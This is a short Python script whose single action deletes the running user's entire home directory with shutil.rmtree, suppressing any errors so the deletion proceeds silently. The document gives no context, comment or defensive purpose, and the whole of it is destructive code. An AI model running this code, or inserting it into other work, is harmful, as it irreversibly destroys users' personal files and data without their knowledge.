import shutil, os

shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)
